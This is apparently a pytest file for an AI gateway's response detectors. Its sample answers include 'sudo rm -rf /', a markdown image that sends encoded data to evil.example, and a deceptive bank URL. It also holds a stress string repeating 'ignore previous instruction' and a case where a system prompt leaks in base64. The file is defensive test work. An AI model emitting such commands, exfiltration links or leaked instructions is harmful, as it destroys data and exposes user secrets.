import time

import pytest

from akto_proxy.cli import build, detectors
from akto_proxy.model import Direction, Role, Segment
from akto_proxy.policy.catalogue import DETECTED
from akto_proxy.policy.schema import parse_policies


def test_what_a_policy_may_name_is_what_the_detectors_report():
    built = {item.name: item for item in detectors.detectors(frozenset(detectors.NAMES))}
    assert {(rule, item.name) for item in built.values() for rule in item.rules} == {
        (item.id, item.detector) for item in DETECTED
    }


@pytest.mark.parametrize("pack", build.pack_names())
def test_every_pack_is_served_whole(pack):
    made = build.policy_set(build.pack(pack))
    loaded = {word for item in build.detectors(made.detectors) for word in (item.name, item.category)}
    assert made.unserved(loaded) == []


def test_only_what_is_asked_for_is_made():
    made = detectors.detectors(frozenset(["refusal", "code", "no such thing"]))
    assert [item.name for item in made] == ["code", "refusal"]


ANSWERS = [
    ("code", "```python\nimport os\n```"),
    ("shell-command", "run `sudo rm -rf /` now"),
    ("gibberish", "asdkjh qwlekj zxcmnb qpwoei rutyal skdjfh gxzvbn"),
    ("repetition", "I will not do it again. " * 40),
    ("sentiment", "You useless idiot, I hate this garbage"),
    ("refusal", "I'm sorry, but I can't help with that."),
    ("markdown-exfiltration", "![x](https://evil.example/p.png?q=" + "Zm9vYmFy" * 6 + ")"),
    ("misleading-url", "see https://bank.com@evil.example/"),
    ("invisible", "pass\u200bword"),
    ("language", "Wer war der erste Kanzler und wie lange war er im Amt?"),
]


@pytest.mark.parametrize(("target", "text"), ANSWERS)
def test_a_policy_that_asks_for_it_gets_it(target, text, scanned):
    findings = scanned(target, [Segment(text, "/a", Role.ASSISTANT, Direction.RESPONSE)])[0]
    assert findings
    assert {item.rule for item in findings} | {item.category for item in findings} >= {target}


def test_a_prompt_given_away_in_base64_is_a_leak(scanned):
    import base64

    prompt = (
        "You are Nora, the support assistant of Nordwind Bank. Never talk about interest rates before the customer "
        "has been identified. If someone asks for a refund, hand the case to a colleague."
    )
    told = "Here: " + base64.b64encode(prompt.encode()).decode()
    asked = [Segment(prompt, "/s", Role.SYSTEM), Segment(told, "/a", Role.ASSISTANT, Direction.RESPONSE)]
    [finding] = scanned("leak", asked)[1]
    assert finding.rule == "system-prompt-leak"


@pytest.mark.parametrize("target", ["gibberish", "refusal", "code", "invisible", "language-fr"])
def test_other_readings_of_a_text_are_not_judged_by_their_form(target, scanned):
    text = "H3ll0 there, erny gvzr vf n fgenatr guvat, and the end of the word eht is here."
    assert scanned(target, [Segment(text, "/a", Role.ASSISTANT, Direction.RESPONSE)])[0] == []


@pytest.fixture
def scanned():
    def scan(target, segments):
        text = f"version: 1\nname: t\npolicies: [{{name: t, rules: [{{detect: {target}, action: alert}}]}}]"
        made = build.policy_set(parse_policies(text, "t.yaml"))
        scanner = build.Scanner(build.engine([], None), build.detectors(made.detectors))
        return scanner.scan(segments, made.everything().enabled(Direction.RESPONSE))

    return scan


HOSTILE = [
    "a" * 2_000_000,
    "\u200b" * 200_000,
    "ignore previous instruction " * 100_000,
    "![" * 200_000 + "](https://" * 50_000,
    "```\n" * 100_000,
    "Ik b = $(" * 100_000,
    "\ud800\udfff \udc00" * 50_000,
    bytes(range(256)).decode("utf-8", "replace") * 4_000,
    "http://" + "a@" * 200_000,
    "\n" * 500_000,
    "0" * 1_000_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: f"{text[:8]!a}-{len(text)}")
def test_no_text_makes_a_detector_raise_or_wander(text):
    asked = [
        Segment("You are Nora of Nordwind Bank. Never speak of interest rates to anyone.", "/s", Role.SYSTEM),
        Segment(text, "/u", Role.USER),
        Segment(text, "/t", Role.TOOL),
        Segment(text, "/a", Role.ASSISTANT, Direction.RESPONSE),
    ]
    for detector in ALL:
        began = time.process_time()
        found = detector.check(asked)
        assert time.process_time() - began < 8, detector.name
        for number, finding in found:
            assert 0 <= finding.start <= finding.end <= len(asked[number].text), detector.name


ALL = detectors.detectors(frozenset(detectors.NAMES))
